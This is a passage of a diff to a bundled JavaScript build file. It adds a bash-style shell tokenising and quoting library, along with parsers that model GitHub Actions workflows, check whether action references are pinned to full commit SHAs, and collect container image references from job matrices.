@@ -5841,6 +5841,498 @@ define(module.exports, Symbol.for('setupWindows'), setupWindows)
 
 /***/ }),
 
+/***/ 6591:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+
+
+exports.quote = __nccwpck_require__(5335);
+exports.parse = __nccwpck_require__(2696);
+
+
+/***/ }),
+
+/***/ 2696:
+/***/ ((module) => {
+
+
+
+/**
+ * @import {
+ * 	ControlOperator,
+ * 	Env,
+ * 	GlobPattern,
+ * 	ParseEntry,
+ * } from './parse' */
+
+// '<(' and '>(' are process substitution operators and
+// can be parsed the same as control operator
+var CONTROL = /** @type {const} */ ('(?:') + /** @type {const} */ ([
+	'\\|\\|',
+	'\\&(?:\\&|>>?)', // `&&`, `&>`, and `&>>`
+	';;\\&?', // `;;` and `;;&`
+	'[;|]\\&', // `;&` and `|&`
+	'\\<\\(',
+	'\\<\\<\\<',
+	'\\<\\<-',
+	'\\<\\<(?!\\()', // `<<(` stays `<` and `<(`, as zsh reads it; other shells reject it
+	'>>',
+	'>[&|(]', // `>&`, `>|`, and `>(`
+	'<[&>]', // `<&` and `<>`
+	'[&;()|<>]'
+]).join(/** @type {const} */ ('|')) + /** @type {const} */ (')');
+var controlRE = new RegExp('^' + CONTROL + '$');
+var META = /** @type {const} */ ('|&;()<> \\t');
+var SINGLE_QUOTE = /** @type {const} */ ('\'([^\']*?)\'');
+// bash ANSI-C quoting, `$'...'`: a backslash escapes the next character, including `'`
+var ANSI_C_BODY = '(?:\\\\[\\s\\S]|[^\\\\\'])*?';
+var ANSI_C_QUOTE = '\\$\'' + ANSI_C_BODY + '\'';
+var ansiCAt = new RegExp('\\$\'' + ANSI_C_BODY + '(?:(\')|\\\\?$)', 'g');
+var ANSI_C_LETTERS = 'abeEfnrtv';
+var ANSI_C_CHARS = '\x07\b\x1B\x1B\f\n\r\t\v';
+var hash = /^#$/;
+
+var SQ = /** @type {const} */ ("'");
+var DQ = /** @type {const} */ ('"');
+var DS = /** @type {const} */ ('$');
+
+var TOKEN = '';
+var mult = /** @type {const} */ (0x100000000); // Math.pow(16, 8);
+for (var i = 0; i < 4; i++) {
+	TOKEN += (mult * Math.random()).toString(16);
+}
+var startsWithToken = new RegExp('^' + TOKEN);
+
+/**
+ * @param {string} s
+ * @param {RegExp} r
+ */
+function matchAll(s, r) {
+	var origIndex = r.lastIndex;
+
+	var matches = [];
+	var matchObj;
+
+	while ((matchObj = r.exec(s))) {
+		matches[matches.length] = matchObj;
+		if (r.lastIndex === matchObj.index) {
+			r.lastIndex += 1;
+		}
+	}
+
+	r.lastIndex = origIndex;
+
+	return matches;
+}
+
+/**
+ * @param {Env} env
+ * @param {string} pre
+ * @param {string} key
+ */
+function getVar(env, pre, key) {
+	var r = typeof env === 'function' ? env(key) : env[key];
+	if (typeof r === 'undefined' && key != '') {
+		r = '';
+	} else if (typeof r === 'undefined') {
+		r = '$';
+	}
+
+	if (typeof r === 'object') {
+		return pre + TOKEN + JSON.stringify(r) + TOKEN;
+	}
+	return pre + r;
+}
+
+var ansiCEscape = /\\([0-7]{1,3}|x[\dA-Fa-f]{1,2}|u[\dA-Fa-f]{1,4}|U[\dA-Fa-f]{1,8}|c(?:\\\\|[\s\S])|[abeEfnrtv\\'"?])/g;
+
+/**
+ * @param {string} m
+ * @param {string} escape
+ */
+function expandAnsiCEscape(m, escape) {
+	var kind = escape.charAt(0);
+	if (kind === 'c') {
+		var ctrl = escape.charAt(1);
+		return ctrl === '?' ? '\x7F' : String.fromCharCode(ctrl.charCodeAt(0) & 0x1F);
+	}
+	if (kind === 'x' || kind === 'u' || kind === 'U') {
+		var cp = parseInt(escape.slice(1), 16);
+		if (cp > 0x10FFFF) {
+			return m;
+		}
+		return String.fromCharCode.apply(null, cp > 0xFFFF ? [0xD7C0 + (cp >> 10), 0xDC00 + (cp & 0x3FF)] : [cp]);
+	}
+	if (kind >= '0' && kind <= '7') {
+		return String.fromCharCode(parseInt(escape, 8) & 0xFF);
+	}
+	var letter = ANSI_C_LETTERS.indexOf(escape);
+	return letter < 0 ? escape : ANSI_C_CHARS.charAt(letter);
+}
+
+/** @param {string} body */
+function expandAnsiC(body) {
+	return body.replace(ansiCEscape, expandAnsiCEscape).split('\0')[0]; // like bash, a NUL ends the string
+}
+
+/**
+ * @param {string} s
+ * @param {number} i
+ */
+function closesAnsiC(s, i) {
+	ansiCAt.lastIndex = i;
+	return !!(/** @type {RegExpExecArray} */ (ansiCAt.exec(s)))[1];
+}
+
+/**
+ * @param {string} string
+ * @param {Env} [env]
+ * @param {{ escape?: string, splitUnquoted?: boolean | string }} [opts]
+ * @returns {ParseEntry[]}
+ */
+function parseInternal(string, env, opts) {
+	if (!opts) {
+		opts = {};
+	}
+	var BS = opts.escape || '\\';
+	var ifs = opts.splitUnquoted === true ? ' \t\n' : (typeof opts.splitUnquoted === 'string' ? opts.splitUnquoted : '');
+	var BAREWORD = '(\\' + BS + '[\'"$\\' + BS + META + ']|\\$\\$|\\$(?!' + ANSI_C_QUOTE.slice(2) + ')|[^\\s\'"$' + META + '])+';
+	var DOUBLE_QUOTE = '"(?:\\' + BS + '[\\s\\S]|[^"\\' + BS + '])*"';
+
+	var chunker = new RegExp([
+		'(' + CONTROL + ')', // control chars
+		'(' + ANSI_C_QUOTE + '|' + BAREWORD + '|' + DOUBLE_QUOTE + '|' + SINGLE_QUOTE + ')+'
+	].join('|'), 'g');
+
+	var matches = matchAll(string, chunker);
+
+	if (matches.length === 0) {
+		return [];
+	}
+	if (!env) {
+		env = {};
+	}
+
+	var commented = false;
+
+	return matches.map(function (match) {
+		var s = match[0];
+		if (!s || commented) {
+			return void undefined;
+		}
+		if (controlRE.test(s)) {
+			return /** @type {ControlOperator} */ ({ op: s });
+		}
+
+		// Hand-written scanner/parser for Bash quoting rules:
+		//
+		// 1. inside single quotes, all characters are printed literally.
+		// 2. inside double quotes, all characters are printed literally
+		//    except variables prefixed by '$' and backslashes followed by
+		//    either a double quote or another backslash.
+		// 3. outside of any quotes, backslashes are treated as escape
+		//    characters and not printed (unless they are themselves escaped)
+		// 4. quote context can switch mid-token if there is no whitespace
+		//     between the two quote contexts (e.g. all'one'"token" parses as
+		//     "allonetoken")
+		/** @type {string | boolean} */
+		var quote = false;
+		var esc = false;
+		var out = '';
+		/** @type {string[]} */
+		var words = [];
+		var sawQuote = false;
+		/** @type {number | null} */
+		var pendingNw = null;
+		var isGlob = false;
+		/** @type {number} */
+		var i;
+
+		function parseEnvVar() {
+			i += 1;
+			/** @type {number | RegExpMatchArray | null} */
+			var varend;
+			/** @type {string} */
+			var varname;
+			var char = s.charAt(i);
+
+			if (char === '{') {
+				i += 1;
+				if (s.charAt(i) === '}') {
+					throw new Error('Bad substitution: ' + s.slice(i - 2, i + 1));
+				}
+				// match braces by depth so a nested `${` keeps its inner `}` from ending the outer substitution
+				var depth = 1;
+				varend = i;
+				while (depth > 0 && varend < s.length) {
+					if (s.charAt(varend) === '{' && s.charAt(varend - 1) === '$') {
+						depth += 1;
+					} else if (s.charAt(varend) === '}') {
+						depth -= 1;
+					}
+					varend += 1;
+				}
+				if (depth !== 0) {
+					throw new Error('Bad substitution: ' + s.slice(i));
+				}
+				varend -= 1;
+				varname = s.slice(i, varend);
+				i = varend;
+			} else if ((/[*@#?$!-]/).test(char)) {
+				varname = char;
+			} else {
+				var slicedFromI = s.slice(i);
+				varend = slicedFromI.match(/[^\w\d_]/);
+				if (!varend) {
+					varname = slicedFromI;
+					i = s.length;
+				} else {
+					varname = slicedFromI.slice(0, varend.index);
+					i += /** @type {number} */ (varend.index) - 1;
+				}
+			}
+			return getVar(/** @type {NonNullable<typeof env>} */ (env), '', varname);
+		}
+
+		function flushRun() {
+			if (pendingNw === null) {
+				return;
+			}
+			if (pendingNw === 0) {
+				if (out !== '') {
+					words[words.length] = out;
+					out = '';
+				}
+			} else {
+				words[words.length] = out;
+				out = '';
+				for (var fe = 1; fe < pendingNw; fe += 1) {
+					words[words.length] = '';
+				}
+			}
+			pendingNw = null;
+		}
+
+		for (i = 0; i < s.length; i++) {
+			var c = s.charAt(i);
+			if (ifs && c !== DS) {
+				flushRun();
+			}
+			isGlob = isGlob || (!quote && (c === '*' || c === '?'));
+			if (esc) {
+				out += c;
+				esc = false;
+			} else if (quote) {
+				if (c === quote) {
+					quote = false;
+				} else if (quote == SQ) {
+					out += c;
+				} else { // Double quote
+					if (c === BS) {
+						i += 1;
+						c = s.charAt(i);
+						if (c === DQ || c === BS || c === DS) {
+							out += c;
+						} else {
+							out += BS + c;
+						}
+					} else if (c === DS) {
+						out += parseEnvVar();
+					} else {
+						out += c;
+					}
+				}
+			} else if (c === DQ || c === SQ) {
+				quote = c;
+				sawQuote = true;
+			} else if (controlRE.test(c)) {
+				return /** @type {ControlOperator} */ ({ op: s });
+			} else if (hash.test(c)) {
+				commented = true;
+				var commentObj = { comment: string.slice(match.index + i + 1) };
+				if (out.length) {
+					return /** @type {const} */ ([out, commentObj]);
+				}
+				return /** @type {const} */ ([commentObj]);
+			} else if (c === BS) {
+				esc = true;
+			} else if (c === DS && s.charAt(i + 1) === SQ && closesAnsiC(s, i)) {
+				flushRun();
+				sawQuote = true;
+				out += expandAnsiC(s.slice(i + 2, ansiCAt.lastIndex - 1));
+				i = ansiCAt.lastIndex - 1;
+			} else if (c === DS) {
+				var value = parseEnvVar();
+				if (!ifs) {
+					out += value;
+				} else {
+					for (var vi = 0; vi < value.length; vi += 1) {
+						var vc = value.charAt(vi);
+						if (ifs.indexOf(vc) < 0) {
+							flushRun();
+							out += vc;
+						} else if (pendingNw === null) {
+							pendingNw = vc === ' ' || vc === '\t' || vc === '\n' ? 0 : 1;
+						} else if (vc !== ' ' && vc !== '\t' && vc !== '\n') {
+							pendingNw += 1;
+						}
+					}
+				}
+			} else {
+				out += c;
+			}
+		}
+
+		if (isGlob) {
+			return /** @type {GlobPattern} */ ({ op: 'glob', pattern: out });
+		}
+
+		if (ifs) {
+			if (pendingNw !== null && pendingNw > 0) {
+				words[words.length] = out;
+				out = '';
+				for (var te = 1; te < pendingNw; te += 1) {
+					words[words.length] = '';
+				}
+			}
+			if (out !== '' || (sawQuote && words.length === 0)) {
+				words[words.length] = out;
+			}
+			return words;
+		}
+
+		return out;
+	}).reduce(function (prev, arg) { // finalize parsed arguments
+		if (typeof arg === 'undefined') {
+			return prev;
+		}
+		/** @type {ParseEntry[]} */ ([]).concat(arg).forEach(function (entry) {
+			prev[prev.length] = entry;
+		});
+		return prev;
+	}, /** @type {ParseEntry[]} */ ([]));
+}
+
+/** @type {typeof import('./parse')} */
+module.exports = function parse(s, env, opts) {
+	var mapped = parseInternal(s, env, opts);
+	if (typeof env !== 'function') {
+		return mapped;
+	}
+	return mapped.reduce(function (acc, s) {
+		if (typeof s === 'object') {
+			acc[acc.length] = s;
+			return acc;
+		}
+		var xs = s.split(RegExp('(' + TOKEN + '.*?' + TOKEN + ')', 'g'));
+		if (xs.length === 1) {
+			acc[acc.length] = xs[0];
+			return acc;
+		}
+		xs.filter(Boolean).forEach(function (x) {
+			acc[acc.length] = startsWithToken.test(x)
+				? JSON.parse(x.split(TOKEN)[1])
+				: x;
+		});
+		return acc;
+	}, /** @type {ParseEntry[]} */ ([]));
+};
+
+
+/***/ }),
+
+/***/ 5335:
+/***/ ((module) => {
+
+
+
+/** @import { ControlOperator } from './parse' */
+
+/** @type {ControlOperator['op'][]} */
+var OPS = /** @type {const} */ ([
+	'||',
+	'&&',
+	';;&',
+	';;',
+	';&',
+	'|&',
+	'<(',
+	'>(',
+	'<<<',
+	'<<-',
+	'<<',
+	'>>',
+	'>&',
+	'>|',
+	'&>>',
+	'&>',
+	'<&',
+	'<>',
+	'&',
+	';',
+	'(',
+	')',
+	'|',
+	'<',
+	'>'
+]);
+var LINE_TERMINATORS = /[\n\r\u2028\u2029]/;
+var GLOB_SHELL_SPECIAL = /[\s#!"$&'():;<=>@\\^`|~]/g;
+
+/** @type {typeof import('./quote')} */
+module.exports = function quote(xs) {
+	var sawComment = false;
+	return xs.map(function (s) {
+		if (sawComment && typeof s === 'string' && LINE_TERMINATORS.test(s)) {
+			throw new TypeError('a token after a `comment` must not contain line terminators');
+		}
+		if (s === '') {
+			return /** @type {const} */ ('\'\'');
+		}
+		if (s && typeof s === 'object') {
+			if ('op' in s && s.op === 'glob') {
+				if (typeof s.pattern !== 'string') {
+					throw new TypeError('glob token requires a string `pattern`');
+				}
+				if (LINE_TERMINATORS.test(s.pattern)) {
+					throw new TypeError('glob `pattern` must not contain line terminators');
+				}
+				if (s.pattern === '') {
+					return /** @type {const} */ ('\'\'');
+				}
+				return s.pattern.replace(GLOB_SHELL_SPECIAL, '\\$&');
+			}
+			if ('op' in s && typeof s.op === 'string') {
+				if (OPS.indexOf(s.op) < 0) {
+					throw new TypeError('invalid `op` value: ' + JSON.stringify(s.op));
+				}
+				return s.op.replace(/[\s\S]/g, '\\$&');
+			}
+			if ('comment' in s && typeof s.comment === 'string') {
+				if (LINE_TERMINATORS.test(s.comment)) {
+					throw new TypeError('`comment` must not contain line terminators');
+				}
+				sawComment = true;
+				return '#' + s.comment;
+			}
+			throw new TypeError('unrecognized object token shape');
+		}
+		if ((/'/).test(s) && (/!/).test(s)) {
+			return "'" + s.replace(/'/g, "'\"'\"'") + "'";
+		}
+		if ((/["\s\\]/).test(s) && !(/'/).test(s)) {
+			return "'" + s + "'";
+		}
+		if ((/["'\s]/).test(s)) {
+			return '"' + s.replace(/(["\\$`])/g, '\\$1') + '"';
+		}
+		return String(s).replace(/([A-Za-z]:)?([#!"$&'()*,:;<=>?@[\\\]^`{|}~])/g, '$1\\$2');
+	}).join(' ');
+};
+
+
+/***/ }),
+
 /***/ 770:
 /***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {
 
@@ -37028,7 +37520,7 @@ var __spreadArray = (this && this.__spreadArray) || function (to, from, pack) {
 
 /***/ }),
 
-/***/ 1843:
+/***/ 2831:
 /***/ ((__unused_webpack_module, __webpack_exports__, __nccwpck_require__) => {
 
 
@@ -40417,7 +40909,450 @@ function pinnedExample(ref, digest = '<digest>') {
     return `${last.includes('$') ? '<image>' : ref.name}:${tag}@sha256:${digest}`;
 }
 
+// EXTERNAL MODULE: ./node_modules/yaml/dist/index.js
+var dist = __nccwpck_require__(8815);
+;// CONCATENATED MODULE: ./src/parsers/yaml.ts
+
+/** Files larger than this are not parsed as YAML: no rule needs them and parsing costs ~0.5 s/MiB. */
+const MAX_YAML_BYTES = 2 * 1024 * 1024;
+function parseYaml(path, text, notices) {
+    if (text.length > MAX_YAML_BYTES) {
+        notices.push({ path, message: `not parsed as YAML: larger than ${MAX_YAML_BYTES / 1024 / 1024} MiB` });
+        return undefined;
+    }
+    const lineCounter = new dist/* LineCounter */.HN();
+    let documents;
+    try {
+        documents = (0,dist/* parseAllDocuments */.hR)(text, { lineCounter, uniqueKeys: false, prettyErrors: false });
+    }
+    catch (err) {
+        notices.push({ path, message: `invalid YAML: ${err.message.split('\n')[0]}` });
+        return undefined;
+    }
+    if (!Array.isArray(documents))
+        documents = [];
+    const firstError = documents.flatMap((d) => d.errors)[0];
+    if (firstError) {
+        const at = lineCounter.linePos(firstError.pos[0]);
+        notices.push({ path, line: at.line, message: `invalid YAML: ${firstError.message.split('\n')[0]}` });
+        documents = documents.filter((d) => d.errors.length === 0);
+    }
+    const span = (start, end) => {
+        const a = lineCounter.linePos(start);
+        const b = lineCounter.linePos(Math.max(start, end));
+        return { line: a.line, column: a.col, endLine: b.line, endColumn: b.col };
+    };
+    const spanOf = (node) => {
+        const range = node?.range;
+        return range ? span(range[0], range[1]) : { line: 1, column: 1, endLine: 1, endColumn: 1 };
+    };
+    return {
+        path,
+        documents,
+        spanOf,
+        keySpanOf(map, key) {
+            if ((0,dist/* isMap */.jh)(map)) {
+                for (const pair of map.items) {
+                    if ((0,dist/* isScalar */.jn)(pair.key) && String(pair.key.value) === key)
+                        return spanOf(pair.key);
+                }
+            }
+            return spanOf(map);
+        },
+    };
+}
+/** Follows an alias to the node it names (one hop; the yaml library rejects cycles). */
+function resolveNode(node, doc) {
+    if ((0,dist/* isAlias */.Vj)(node))
+        return node.resolve(doc) ?? undefined;
+    return node ?? undefined;
+}
+/** Value node of `key` in a map node, aliases resolved. */
+function getNode(map, key, doc) {
+    const m = resolveNode(map, doc);
+    if (!(0,dist/* isMap */.jh)(m))
+        return undefined;
+    for (const pair of m.items) {
+        if ((0,dist/* isScalar */.jn)(pair.key) && String(pair.key.value) === key)
+            return resolveNode(pair.value, doc);
+    }
+    return undefined;
+}
+function scalarString(node) {
+    if ((0,dist/* isScalar */.jn)(node) && node.value !== null && node.value !== undefined)
+        return String(node.value);
+    return undefined;
+}
+
+
+;// CONCATENATED MODULE: ./src/parsers/workflow.ts
+
+
+function isWorkflowPath(path) {
+    return /(^|\/)\.github\/workflows\/[^/]+\.ya?ml$/i.test(path);
+}
+function isActionPath(path) {
+    return /(^|\/)action\.ya?ml$/i.test(path);
+}
+function workflowFromYaml(file, text, notices) {
+    const doc = file.documents[0];
+    if (!doc)
+        return undefined;
+    const root = resolveNode(doc.contents, doc);
+    if (!(0,dist/* isMap */.jh)(root)) {
+        notices.push({ path: file.path, message: 'not a workflow: the top level is not a mapping' });
+        return undefined;
+    }
+    const type = isActionPath(file.path) && !isWorkflowPath(file.path) ? 'action' : 'workflow';
+    const str = (node) => {
+        const n = resolveNode(node, doc);
+        const v = scalarString(n);
+        return v === undefined ? undefined : { value: v, span: file.spanOf(n), node: n };
+    };
+    const mapOf = (node) => {
+        const out = new Map();
+        const n = resolveNode(node, doc);
+        if (!(0,dist/* isMap */.jh)(n))
+            return out;
+        for (const pair of n.items) {
+            const key = scalarString(pair.key);
+            const v = resolveNode(pair.value, doc);
+            if (key === undefined)
+                continue;
+            out.set(key, { value: scalarString(v) ?? '', span: file.spanOf((v ?? pair.key)), node: (v ?? pair.key) });
+        }
+        return out;
+    };
+    const permissions = (node) => {
+        const n = resolveNode(node, doc);
+        if (!n)
+            return undefined;
+        const s = scalarString(n);
+        if (s !== undefined) {
+            const shorthand = s === 'read-all' || s === 'write-all' ? s : s === '' ? 'none' : undefined;
+            return { span: file.spanOf(n), shorthand, scopes: new Map() };
+        }
+        const scopes = mapOf(n);
+        return { span: file.spanOf(n), shorthand: scopes.size === 0 ? 'none' : undefined, scopes };
+    };
+    // Where a step is written: the alias for `- *x`, and from its `&x` anchor (which the node's range leaves out) for an anchored step.
+    const itemSpan = (item, s) => {
+        const span = file.spanOf(item);
+        const anchor = item.anchor;
+        const start = item.range?.[0];
+        if (!anchor || start === undefined)
+            return span;
+        const at = text.lastIndexOf(`&${anchor}`, start);
+        if (at < 0 || /\S/.test(text.slice(at + anchor.length + 1, start).replace(/#.*$/gm, '')))
+            return file.spanOf(s);
+        const a = file.spanOf({ range: [at, at, at] });
+        return { ...span, line: a.line, column: a.column };
+    };
+    const steps = (node) => {
+        const n = resolveNode(node, doc);
+        if (!(0,dist/* isSeq */.oP)(n))
+            return [];
+        return n.items.flatMap((item, index) => {
+            const s = resolveNode(item, doc);
+            if (!(0,dist/* isMap */.jh)(s))
+                return [];
+            const step = {
+                index,
+                span: file.spanOf(s),
+                itemSpan: itemSpan(item, s),
+                node: s,
+                id: str(getNode(s, 'id', doc))?.value,
+                name: str(getNode(s, 'name', doc))?.value,
+                uses: str(getNode(s, 'uses', doc)),
+                run: str(getNode(s, 'run', doc)),
+                shell: str(getNode(s, 'shell', doc))?.value,
+                with: mapOf(getNode(s, 'with', doc)),
+                env: mapOf(getNode(s, 'env', doc)),
+                if: str(getNode(s, 'if', doc)),
+            };
+            return [step];
+        });
+    };
+    const imageUse = (node, label) => {
+        const n = resolveNode(node, doc);
+        const image = (0,dist/* isMap */.jh)(n) ? str(getNode(n, 'image', doc)) : str(n);
+        if (!image)
+            return undefined;
+        const cred = (0,dist/* isMap */.jh)(n) ? resolveNode(getNode(n, 'credentials', doc), doc) : undefined;
+        return {
+            image,
+            label,
+            credentials: (0,dist/* isMap */.jh)(cred) ? { username: str(getNode(cred, 'username', doc)), password: str(getNode(cred, 'password', doc)) } : undefined,
+        };
+    };
+    const triggers = [];
+    const onPair = root.items.find((p) => scalarString(p.key) === 'on' || ((0,dist/* isScalar */.jn)(p.key) && p.key.value === true));
+    const on = resolveNode(onPair?.value, doc);
+    if ((0,dist/* isScalar */.jn)(on) && on.value !== null)
+        triggers.push({ name: String(on.value), span: file.spanOf(on) });
+    else if ((0,dist/* isSeq */.oP)(on))
+        for (const t of on.items) {
+            const l = str(t);
+            if (l)
+                triggers.push({ name: l.value, span: l.span });
+        }
+    else if ((0,dist/* isMap */.jh)(on))
+        for (const pair of on.items) {
+            const name = scalarString(pair.key);
+            if (name)
+                triggers.push({ name, span: file.spanOf(pair.key), config: resolveNode(pair.value, doc) });
+        }
+    const jobs = [];
+    const jobsNode = resolveNode(getNode(root, 'jobs', doc), doc);
+    if ((0,dist/* isMap */.jh)(jobsNode)) {
+        for (const pair of jobsNode.items) {
+            const id = scalarString(pair.key);
+            const j = resolveNode(pair.value, doc);
+            if (id === undefined || !(0,dist/* isMap */.jh)(j))
+                continue;
+            const runsOnNode = resolveNode(getNode(j, 'runs-on', doc), doc);
+            const runsOn = [];
+            if (runsOnNode) {
+                const labelsNode = (0,dist/* isMap */.jh)(runsOnNode) ? resolveNode(getNode(runsOnNode, 'labels', doc), doc) : runsOnNode;
+                const group = (0,dist/* isMap */.jh)(runsOnNode) ? scalarString(getNode(runsOnNode, 'group', doc)) : undefined;
+                const labels = (0,dist/* isSeq */.oP)(labelsNode) ? labelsNode.items.map((i) => scalarString(resolveNode(i, doc)) ?? '') : [scalarString(labelsNode) ?? ''];
+                runsOn.push({ value: [...labels.filter(Boolean), ...(group ? [`group:${group}`] : [])], span: file.spanOf(runsOnNode), node: runsOnNode });
+            }
+            const containers = [];
+            const c = imageUse(getNode(j, 'container', doc), 'container');
+            if (c)
+                containers.push(c);
+            const services = resolveNode(getNode(j, 'services', doc), doc);
+            if ((0,dist/* isMap */.jh)(services))
+                for (const sp of services.items) {
+                    const u = imageUse(sp.value, `service ${scalarString(sp.key) ?? ''}`);
+                    if (u)
+                        containers.push(u);
+                }
+            const envNode = resolveNode(getNode(j, 'environment', doc), doc);
+            jobs.push({
+                id,
+                keySpan: file.spanOf(pair.key),
+                node: j,
+                name: str(getNode(j, 'name', doc))?.value,
+                runsOn,
+                permissions: permissions(getNode(j, 'permissions', doc)),
+                containers,
+                environment: (0,dist/* isMap */.jh)(envNode) ? str(getNode(envNode, 'name', doc)) : str(envNode),
+                uses: str(getNode(j, 'uses', doc)),
+                secrets: str(getNode(j, 'secrets', doc)),
+                with: mapOf(getNode(j, 'with', doc)),
+                env: mapOf(getNode(j, 'env', doc)),
+                steps: steps(getNode(j, 'steps', doc)),
+                if: str(getNode(j, 'if', doc)),
+            });
+        }
+    }
+    let runs;
+    const runsNode = resolveNode(getNode(root, 'runs', doc), doc);
+    if ((0,dist/* isMap */.jh)(runsNode))
+        runs = { using: str(getNode(runsNode, 'using', doc)), image: str(getNode(runsNode, 'image', doc)), steps: steps(getNode(runsNode, 'steps', doc)) };
+    return {
+        type,
+        path: file.path,
+        file,
+        doc,
+        triggers,
+        permissions: permissions(getNode(root, 'permissions', doc)),
+        env: mapOf(getNode(root, 'env', doc)),
+        jobs,
+        runs,
+        text,
+        spanWithin(node, needle, from = 0) {
+            const range = node?.range;
+            if (!range)
+                return undefined;
+            const at = text.indexOf(needle, range[0] + from);
+            if (at < 0 || at >= range[1])
+                return undefined;
+            return file.spanOf({ range: [at, at + needle.length, at + needle.length] });
+        },
+    };
+}
+/** Every step of a workflow or composite action, with the job it belongs to (undefined in an action). */
+function allSteps(wf) {
+    return [...wf.jobs.flatMap((job) => job.steps.map((step) => ({ job, step }))), ...(wf.runs?.steps ?? []).map((step) => ({ step }))];
+}
+
+;// CONCATENATED MODULE: ./src/analysis/action-ref.ts
+/** `uses:` references of steps, composite-action steps and reusable-workflow calls, and the pin policy applied to them. */
+const NAME = /^[A-Za-z0-9_.-]+$/;
+/** Parses a `uses:` value; undefined when it is not a reference GitHub would accept (an expression, `$/…`). */
+function parseUses(text) {
+    const value = text.trim();
+    if (value === '' || value.includes('${{'))
+        return undefined;
+    if (value.startsWith('./') || value.startsWith('../'))
+        return { kind: 'local', path: value };
+    if (/^docker:\/\//i.test(value))
+        return { kind: 'docker', image: value.slice('docker://'.length) };
+    const at = value.indexOf('@');
+    const target = at >= 0 ? value.slice(0, at) : value;
+    const ref = at >= 0 ? value.slice(at + 1) : undefined;
+    const parts = target.split('/');
+    if (parts.length < 2 || !NAME.test(parts[0]) || !NAME.test(parts[1]))
+        return undefined;
+    const path = parts.slice(2).join('/');
+    return {
+        kind: 'repo',
+        repo: `${parts[0]}/${parts[1]}`,
+        path,
+        ...(ref !== undefined ? { ref } : {}),
+        workflow: /^\.github\/workflows\/[^/]+\.ya?ml$/i.test(path),
+    };
+}
+const FULL_SHA = /^[0-9a-f]{40}$/i;
+const SHORT_SHA = /^[0-9a-f]{7,39}$/i;
+/** What is wrong with `ref` under `policy`, or undefined when it complies. */
+function pinPolicyViolation(ref, policy) {
+    if (policy === 'any')
+        return undefined;
+    if (ref === undefined || ref.trim() === '')
+        return 'has no ref, so it follows the default branch';
+    if (policy === 'ref-pin' || FULL_SHA.test(ref))
+        return undefined;
+    if (SHORT_SHA.test(ref))
+        return `uses the short SHA \`${ref}\`: only a full 40-character commit SHA is immutable`;
+    return `is pinned to \`${ref}\`, a tag or branch that can be moved to other code`;
+}
+/** True when a ref is a full 40-hex commit SHA. */
+function isFullSha(ref) {
+    return ref !== undefined && FULL_SHA.test(ref);
+}
+
+;// CONCATENATED MODULE: ./src/analysis/matrix.ts
+
+
+/** An expression that is exactly one matrix value: `${{ matrix.image }}` → `image`. */
+function wholeMatrixRef(text) {
+    return /^\s*\$\{\{\s*matrix\.([A-Za-z_][A-Za-z0-9_-]*)\s*\}\}\s*$/.exec(text)?.[1];
+}
+/** True when the whole value is one `${{ … }}` expression. */
+function isWholeExpression(text) {
+    const t = text.trim();
+    return t.startsWith('${{') && t.endsWith('}}') && t.indexOf('${{', 3) < 0;
+}
+/**
+ * The literal values a job's `matrix.<key>` can take: the key's list plus `include` entries, minus values that an
+ * `exclude` entry on that key alone removes. Undefined when the matrix (or the key's list) is itself an expression,
+ * so the values are not known from the file. Nested lists are flattened (a `runs-on` label list). With `literals`, a value
+ * that is an expression stands for the string literals in it (`${{ c && 'a' || 'b' }}` → a, b) instead of making the result unknown.
+ */
+function matrixValues(wf, job, key, literals = false) {
+    const matrix = resolveNode(getNode(getNode(job.node, 'strategy', wf.doc), 'matrix', wf.doc), wf.doc);
+    if (!(0,dist/* isMap */.jh)(matrix))
+        return undefined;
+    const flat = (node) => {
+        const n = resolveNode(node, wf.doc);
+        if ((0,dist/* isSeq */.oP)(n)) {
+            const out = [];
+            for (const item of n.items) {
+                const v = flat(item);
+                if (!v)
+                    return undefined;
+                out.push(...v);
+            }
+            return out;
+        }
+        const s = scalarString(n);
+        if (s === undefined)
+            return (0,dist/* isMap */.jh)(n) ? [] : undefined;
+        if (!isWholeExpression(s))
+            return [s];
+        return literals ? [...s.matchAll(/'((?:[^']|'')*)'/g)].map((m) => m[1].replace(/''/g, "'")) : undefined;
+    };
+    const own = getNode(matrix, key, wf.doc);
+    const ownValues = own === undefined ? [] : flat(own);
+    if (!ownValues)
+        return undefined;
+    const entries = (name) => {
+        const n = resolveNode(getNode(matrix, name, wf.doc), wf.doc);
+        return (0,dist/* isSeq */.oP)(n) ? n.items.map((i) => resolveNode(i, wf.doc)).filter((i) => (0,dist/* isMap */.jh)(i)) : [];
+    };
+    const excluded = new Set();
+    for (const exc of entries('exclude')) {
+        if (!(0,dist/* isMap */.jh)(exc) || exc.items.length !== 1 || !(0,dist/* isScalar */.jn)(exc.items[0].key) || String(exc.items[0].key.value) !== key)
+            continue;
+        const v = scalarString(resolveNode(exc.items[0].value, wf.doc));
+        if (v !== undefined)
+            excluded.add(v);
+    }
+    // `exclude` applies to the combinations of the lists; `include` entries are added after it.
+    const values = ownValues.filter((v) => !excluded.has(v));
+    for (const inc of entries('include')) {
+        const node = getNode(inc, key, wf.doc);
+        if (node === undefined)
+            continue;
+        const v = flat(node);
+        if (!v)
+            return undefined;
+        values.push(...v);
+    }
+    return [...new Set(values)];
+}
+
+;// CONCATENATED MODULE: ./src/analysis/workflow-images.ts
+
+
+
+
+/**
+ * Images of `jobs.*.container`, `jobs.*.services.*.image`, step `uses: docker://…` and an action's
+ * `runs.image: docker://…`. A reference that is one whole expression is skipped unless it is a `matrix` value the
+ * file lists; `runs.image: Dockerfile` is built locally and skipped.
+ */
+function workflowImages(wf) {
+    const out = [];
+    const add = (where, text, span, expand) => {
+        const key = wholeMatrixRef(text);
+        if (key !== undefined) {
+            const values = expand?.(key);
+            if (!values)
+                return;
+            const refs = values.flatMap((v) => {
+                const ref = parseImageRef(v);
+                return ref ? [{ text: v, ref, viaMatrix: key }] : [];
+            });
+            if (refs.length > 0)
+                out.push({ where, span, refs, confidence: 'high' });
+            return;
+        }
+        if (isWholeExpression(text))
+            return;
+        const ref = parseImageRef(text);
+        if (ref)
+            out.push({ where, span, refs: [{ text: text.trim(), ref }], confidence: ref.templated ? 'medium' : 'high' });
+    };
+    for (const job of wf.jobs) {
+        for (const c of job.containers) {
+            const where = c.label === 'container' ? 'container: ' : `services.${c.label.replace(/^service /, '')}.image: `;
+            add(where, c.image.value, c.image.span, (key) => matrixValues(wf, job, key));
+        }
+    }
+    for (const { step } of allSteps(wf)) {
+        const uses = step.uses && parseUses(step.uses.value);
